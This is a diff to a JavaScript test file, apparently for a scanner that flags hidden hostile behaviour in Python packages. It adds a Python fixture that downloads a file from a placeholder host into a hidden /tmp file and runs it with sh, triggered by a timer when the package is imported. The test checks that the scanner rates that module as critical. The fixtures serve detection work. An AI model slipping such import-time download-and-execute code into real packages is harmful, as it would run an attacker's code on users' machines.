@@ -43,3 +43,12 @@ test('the same by a class that is a table of fields, and does it as soon as thos
   const session = 'from dataclasses import dataclass\nimport requests\nfrom .fetching import fetch\nfrom .starting import launch\n\n\n@dataclass\nclass Session:\n    name: str = ""\n\n    def __post_init__(self):\n        launch(fetch())\n';
   expect(await foundIn({ ...others(30), ...HALVES, 'plot/__init__.py': 'from .client import Session\n\nDEFAULT = Session()\n', 'plot/client.py': session })).toEqual(['critical plot/starting.py']);
 });
+
+const EVERY = 'import threading\n\n\ndef every(seconds, job):\n    def again():\n        job()\n    threading.Timer(seconds, again).start()\n';
+const WHOLE = `import subprocess\nimport urllib.request\n\n\ndef update():\n    with open("/tmp/.part", "wb") as stream:\n        stream.write(urllib.request.urlopen("https://example.invalid/part").read())\n    subprocess.Popen(["sh", "/tmp/.part"])\n`;
+
+test('what one module does by itself is met where the package hands it to a clock of another', async () => {
+  const files = { ...others(30), 'plot/lib/__init__.py': '', 'plot/clock.py': EVERY, 'plot/update.py': WHOLE };
+  expect(await foundIn({ ...files, 'plot/__init__.py': 'from .clock import every\nfrom .update import update\n\nevery(5, update)\n' })).toContain('critical plot/update.py');
+  expect(await foundIn({ ...files, 'plot/__init__.py': 'from .clock import every\nfrom .update import update\n\nevery(5, print)\n' })).not.toContain('critical plot/update.py');
+});
